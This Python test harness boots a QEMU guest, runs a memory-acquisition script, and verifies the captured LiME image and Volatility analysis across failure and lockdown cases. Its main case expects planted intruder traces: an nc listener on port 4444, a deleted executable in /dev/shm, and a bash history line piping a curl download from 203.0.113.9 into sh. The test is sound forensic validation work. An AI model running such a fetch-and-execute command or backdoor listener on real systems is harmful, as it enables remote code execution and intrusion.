"""The proof that memory arrives: boots a guest with a real kernel, runs the script of the real Command document in it,
and reads the image that comes out. What no test with a made-up `/proc/kcore` can show.

    proof.py --collector FILE --cache FOLDER [--symbols FILE --volatility FILE] [--install] [--only main] [--keep FOLDER]

Ends with `N passed, N failed, N skipped`; skipped, with the reason, where QEMU or the kernel cannot be had.
"""

from __future__ import annotations

import argparse
import hashlib
import json
import os
import shutil
import struct
import subprocess
import sys
import tempfile
import time
from pathlib import Path

import bucket as buckets
import guest

ROOT = Path(__file__).resolve().parent.parent.parent
MEMORY_MIB = 256
LIMIT_SECONDS = 240


def script(values: dict[str, str]) -> str:
    """The script of the document, with the values in place as Systems Manager puts them there."""
    document = json.loads((ROOT / "infra/ssm/acquire-memory.json").read_text())
    text = "\n".join(document["mainSteps"][0]["inputs"]["runCommand"]) + "\n"
    for name, value in values.items():
        text = text.replace("{{ " + name + " }}", value)
    assert "{{" not in text, "a parameter was left"
    return text


class Run:
    """One guest, and what came of it."""

    def __init__(self, setting: Setting, name: str, **options: object) -> None:
        self.name = name
        self.folder = setting.folder / name
        self.folder.mkdir()
        received = self.folder / "received"
        received.mkdir()
        server = "other" if options.get("unknown_authority") else "bucket"
        self.bucket = buckets.Bucket(received, setting.folder / f"{server}.pem", setting.folder / f"{server}.key")
        self.bucket.faults = dict(options.get("faults", {}))
        self.bucket.served["/collector"] = setting.collector
        values = {
            "CollectorUrl": f"{self.bucket.address}/collector?X-Amz-Signature=0",
            "CollectorSha256": str(options.get("sha256", hashlib.sha256(setting.collector).hexdigest())),
            "ManifestUrl": self.bucket.manifest(MEMORY_MIB),
        }
        settings = {"nonce": name}
        if not options.get("no_authority_for_curl"):
            settings["CURL_CA_BUNDLE"] = "/etc/authority.pem"
        if not options.get("no_authority_for_collector"):
            settings["STASIS_ROOTS"] = "/etc/authority.pem"
        ram_disk, volume = self.folder / "guest.cpio.gz", self.folder / "volume.raw"
        guest.initial_ram_disk(setting.kernel, ram_disk, script(values), settings, setting.folder / "bucket-ca.pem")
        guest.disk(volume)
        begun = time.monotonic()
        try:
            arguments = f"lockdown={options['lockdown']}" if "lockdown" in options else ""
            self.console = guest.boot(setting.kernel, ram_disk, volume, MEMORY_MIB, arguments, LIMIT_SECONDS)
        finally:
            self.bucket.close()
        self.seconds = time.monotonic() - begun
        self.said = [json.loads(line) for line in self.console.splitlines() if line.startswith("{")]
        self.marker = b"MARK-" + hashlib.sha256(f"proof-{name}".encode()).hexdigest().encode() + b"-END"

    def guest_says(self, key: str) -> str:
        lines = [line for line in self.console.splitlines() if line.startswith(f"GUEST {key} ")]
        assert lines, f"the guest did not say {key}:\n{self.console[-3000:]}"
        return lines[-1].removeprefix(f"GUEST {key} ").strip()

    def summary(self) -> dict:
        return json.loads((self.bucket.folder / "summary.json").read_text())

    def untouched(self) -> None:
        """Holds for every run, whatever became of it."""
        equal(self.guest_says("sectors-written"), "0", "no sector was written to the disk")
        equal(self.guest_says("left-over").split(), ["/dev/shm:", "/run:"], "what is left in a tmpfs")


def equal(found: object, wanted: object, what: str) -> None:
    assert found == wanted, f"{what}: found {found!r}, wanted {wanted!r}"


def records(image: bytes) -> list[tuple[int, int]]:
    """The ranges of a LiME image, walked from header to header."""
    found, at = [], 0
    while at < len(image):
        magic, version, start, last, reserved = struct.unpack_from("<IIQQQ", image, at)
        equal((magic, version, reserved), (0x4C694D45, 1, 0), f"the LiME header at {at}")
        assert not found or start >= found[-1][1], "records overlap"
        found.append((start, last + 1))
        at += 32 + last + 1 - start
    equal(at, len(image), "the end of the image")
    return found


class Setting:
    def __init__(self, folder: Path, cache: Path, collector: Path, symbols: str | None, volatility: str | None) -> None:
        self.folder = folder
        self.symbols = symbols
        self.volatility = volatility
        self.collector = collector.read_bytes()
        self.kernel = guest.unpack(cache)
        buckets.authority(folder, "bucket")
        buckets.authority(folder, "other")


def whole_memory(run: Run) -> None:
    """What holds of every complete image."""
    run.untouched()
    equal(run.guest_says("code"), "0", "the script's exit code")
    summary, image = run.summary(), run.bucket.image()
    equal((summary["taken"], summary["stream"]["complete"], summary["reason"]), ("memory", True, None), "what was taken")
    equal(len(image), summary["stream"]["bytes"], "bytes received")
    equal(hashlib.sha256(image).hexdigest(), summary["stream"]["sha256"], "SHA-256 of what was received")
    covered = sum(end - start for start, end in records(image))
    missing = sum(gap["end"] - gap["start"] for gap in summary["gaps"] if gap["why"] == "notMapped")
    equal(covered + missing, summary["memoryBytes"], "memory in the image and not mapped")
    assert summary["memoryBytes"] > (MEMORY_MIB << 20) * 0.95, summary["memoryBytes"]
    assert run.marker in image, "the marker that only a process' memory holds is not in the image"
    assert summary["peakKib"] < 64 << 10, f"the collector took {summary['peakKib']} KiB"
    for line in (header for method, _, header in run.bucket.requests if method == "PUT"):
        assert not any(name.startswith("x-amz-") for name in line), line


def state_of(run: Run) -> list[dict]:
    return [json.loads(line) for line in (run.bucket.folder / "state.jsonl").read_text().splitlines()]


def main_case(setting: Setting) -> str:
    run = Run(setting, "main")
    whole_memory(run)
    state = state_of(run)
    deleted = [p for p in state if p["type"] == "process" and p["deleted"]]
    equal([p["commandLine"] for p in deleted], [["/dev/shm/sleep", "100001"]], "processes whose executable is deleted")
    listener = [s for s in state if s["type"] == "socket" and s["state"] == "LISTEN" and s["local"].endswith(":4444")]
    equal(len(listener), 1, "the listening socket")
    holders = {p["pid"]: p["name"] for p in state if p["type"] == "process"}
    equal([holders[pid] for pid in listener[0]["pids"]], ["nc"], "who listens")
    files = [json.loads(line) for line in (run.bucket.folder / "files.jsonl").read_text().splitlines()]
    contents = {file["path"]: file.get("content") for file in files}
    equal(contents["/root/.bash_history"], "curl http://203.0.113.9/x | sh\n", "the history")
    summary = run.summary()
    told = f"{summary['stream']['bytes'] >> 20} MiB in {summary['milliseconds'] / 1000:.1f} s, {summary['peakKib'] >> 10} MiB of memory"
    told += f", {len(summary['gaps'])} gaps"
    if setting.symbols and setting.volatility:
        told += f"; {read_by_volatility(setting, run)}"
    return told


def read_by_volatility(setting: Setting, run: Run) -> str:
    """Reads the image with symbols made of the guest's own BTF and kallsyms, and nothing else."""
    made = subprocess.run([setting.symbols, run.bucket.folder], capture_output=True, text=True, check=False)
    equal(made.returncode, 0, f"stasis-symbols: {made.stdout}")
    (run.folder / "symbols/linux").mkdir(parents=True)
    # Volatility does not make it, and the home folder is not ours to write to.
    (run.folder / "cache").mkdir()
    shutil.copy(run.bucket.folder / "symbols.json", run.folder / "symbols/linux/guest.json")
    image = run.folder / "image.lime"
    image.write_bytes(run.bucket.image())

    def plugin(name: str) -> list[dict]:
        cache = ("--cache-path", str(run.folder / "cache"))
        command = [setting.volatility, "-q", "-r", "json", *cache, "-s", run.folder / "symbols", "-f", image, f"linux.{name}"]
        read = subprocess.run(command, capture_output=True, text=True, check=False, timeout=LIMIT_SECONDS)
        assert read.returncode == 0, f"linux.{name}: {read.stderr[-600:]}"
        return json.loads(read.stdout)

    listed = {process["PID"]: process["COMM"] for process in plugin("pslist")}
    alive = {p["pid"]: p["name"] for p in state_of(run) if p["type"] == "process"}
    # Every process that the collector saw, by the name that it saw; workers of the kernel come and go.
    missing = {pid: name for pid, name in alive.items() if pid not in listed and not name.startswith("kworker")}
    equal(missing, {}, "processes of the state that are not in the image")
    deleted = next(p["pid"] for p in state_of(run) if p["type"] == "process" and p["deleted"])
    arguments = {process["PID"]: process["ARGS"] for process in plugin("psaux")}
    equal(arguments[deleted], "/dev/shm/sleep 100001", "the command line of the deleted executable")
    assert any("(deleted)" in m["File Path"] for m in plugin("proc.Maps") if m["PID"] == deleted), "its map says deleted"
    values = [variable["VALUE"] for variable in plugin("envars") if variable["KEY"] == "MARK"]
    equal(values, [run.marker.decode()], "the marker in the environment of its process")
    ports = {str(socket["Source Port"]) for socket in plugin("sockstat") if socket["State"] == "LISTEN"}
    equal(ports, {"4444"}, "listening sockets")
    modules = {module["Module Name"] if "Module Name" in module else module["Name"] for module in plugin("lsmod")}
    assert "virtio_net" in modules, modules
    return f"Volatility lists {len(listed)} processes, the marker, the deleted executable and the listener"


def integrity(setting: Setting) -> str:
    run = Run(setting, "integrity", lockdown="integrity")
    whole_memory(run)
    equal(run.summary()["kernel"]["lockdown"], "integrity", "the lockdown in force")
    return "the whole memory"


def confidentiality(setting: Setting) -> str:
    run = Run(setting, "confidentiality", lockdown="confidentiality")
    run.untouched()
    summary, archive = run.summary(), run.bucket.image()
    equal((summary["taken"], summary["stream"]["complete"]), ("processMemory", True), "what was taken")
    assert "Operation not permitted" in summary["reason"], summary["reason"]
    equal(hashlib.sha256(archive).hexdigest(), summary["stream"]["sha256"], "SHA-256 of what was received")
    assert run.marker in archive, "the marker is not in the memory of the processes"
    file = run.folder / "processes.tar"
    file.write_bytes(archive)
    listed = subprocess.run(["tar", "--list", "--file", file], check=True, capture_output=True, text=True).stdout.split()
    deleted = next(p["pid"] for p in state_of(run) if p["type"] == "process" and p["deleted"])
    subprocess.run(["tar", "--extract", "--file", file, "--directory", run.folder, f"{deleted}/exe"], check=True)
    busybox = Path(shutil.which("busybox") or "/bin/busybox").read_bytes()
    assert (run.folder / f"{deleted}/exe").read_bytes() == busybox, "the deleted executable is not what ran"
    return f"{summary['processes']} processes, {len(listed)} members, {len(archive) >> 10} KiB"


def failing_once(setting: Setting) -> str:
    run = Run(setting, "failing-once", faults={3: [500], 5: [0], 7: [503, 503]})
    whole_memory(run)
    equal(run.summary()["stream"]["retries"], 4, "parts sent again")
    return "4 parts sent again"


def failing_for_good(setting: Setting) -> str:
    run = Run(setting, "failing-for-good", faults={7: [403]})
    run.untouched()
    equal(run.guest_says("code"), "3", "the script's exit code")
    summary, image = run.summary(), run.bucket.image()
    equal((summary["taken"], summary["stream"]["complete"]), ("memory", False), "what was taken")
    assert "part 7" in summary["reason"], summary["reason"]
    equal(len(image), 6 * summary["stream"]["partBytes"], "bytes up to the part that was refused")
    equal(hashlib.sha256(image).hexdigest(), summary["stream"]["parts"][5]["sha256"], "SHA-256 of what arrived")
    return f"{len(image) >> 20} MiB kept: {summary['reason'][:60]}"


def nothing_sent(run: Run, said: str) -> str:
    run.untouched()
    assert any(said in line.get("error", "") for line in run.said), run.said
    equal([path for method, path, _ in run.bucket.requests if method == "PUT"], [], "what was sent")
    return next(line["error"] for line in run.said if "error" in line)


def wrong_hash(setting: Setting) -> str:
    run = Run(setting, "wrong-hash", sha256="0" * 64)
    equal(run.guest_says("code"), "20", "the script's exit code")
    return nothing_sent(run, "another SHA-256")


def unknown_authority(setting: Setting) -> str:
    run = Run(setting, "unknown-authority", unknown_authority=True)
    equal(run.guest_says("code"), "20", "the script's exit code")
    return nothing_sent(run, "could not be fetched")


def authority_unknown_to_the_collector(setting: Setting) -> str:
    run = Run(setting, "collector-authority", no_authority_for_collector=True)
    equal(run.guest_says("code"), "2", "the script's exit code")
    return nothing_sent(run, "UnknownIssuer")


CASES = {
    "main": ("the whole memory of a running kernel", main_case),
    "integrity": ("lockdown=integrity", integrity),
    "confidentiality": ("lockdown=confidentiality: process memory instead", confidentiality),
    "failing-once": ("parts that fail once", failing_once),
    "failing-for-good": ("a part that is refused for good", failing_for_good),
    "wrong-hash": ("a collector with another SHA-256", wrong_hash),
    "unknown-authority": ("a server of an unknown authority", unknown_authority),
    "collector-authority": ("an authority that only the host trusts", authority_unknown_to_the_collector),
}


PACKAGES = ("qemu-system-x86", "seabios", "ipxe-qemu", "busybox-static", "cpio", "e2fsprogs", "openssl", "curl")
TOOLS = ("qemu-system-x86_64", "busybox", "cpio", "mkfs.ext4", "openssl", "curl")


def missing_tools() -> list[str]:
    return [tool for tool in TOOLS if not shutil.which(tool)]


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--collector", type=Path, required=True, help="the static collector for x86_64")
    parser.add_argument("--cache", type=Path, required=True, help="where the kernel is kept")
    parser.add_argument("--only", nargs="*", choices=CASES, default=list(CASES))
    parser.add_argument("--symbols", help="stasis-symbols; with --volatility the image is read as an analyst reads it")
    parser.add_argument("--volatility", help="vol of Volatility 3")
    parser.add_argument("--install", action="store_true", help="install what is missing, where this is root on Debian")
    parser.add_argument("--keep", type=Path, help="an empty folder in which what was received stays")
    arguments = parser.parse_args()
    if arguments.install and missing_tools() and shutil.which("apt-get") and os.geteuid() == 0:
        quiet = {"stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL, "check": False}
        subprocess.run(["apt-get", "update", "-qq"], **quiet)
        subprocess.run(["apt-get", "install", "-y", "-qq", "--no-install-recommends", *PACKAGES], **quiet)
    if missing := missing_tools():
        print(f"skipped: {', '.join(missing)} cannot be had here\n0 passed, 0 failed, {len(arguments.only)} skipped")
        return 0
    passed = failed = 0
    with tempfile.TemporaryDirectory(prefix="vm-proof-", dir=arguments.cache) as folder:
        try:
            tools = (arguments.symbols, arguments.volatility)
            setting = Setting(arguments.keep or Path(folder), arguments.cache, arguments.collector, *tools)
        except (guest.NotHere, subprocess.CalledProcessError) as reason:
            print(f"skipped: {reason}\n0 passed, 0 failed, {len(arguments.only)} skipped")
            return 0
        for name in arguments.only:
            title, case = CASES[name]
            begun = time.monotonic()
            try:
                told = case(setting)
                passed += 1
                print(f"ok    {title}: {told} ({time.monotonic() - begun:.0f} s)", flush=True)
            except AssertionError as error:
                failed += 1
                print(f"FAIL  {title}: {error}", flush=True)
    print(f"\n{passed} passed, {failed} failed")
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
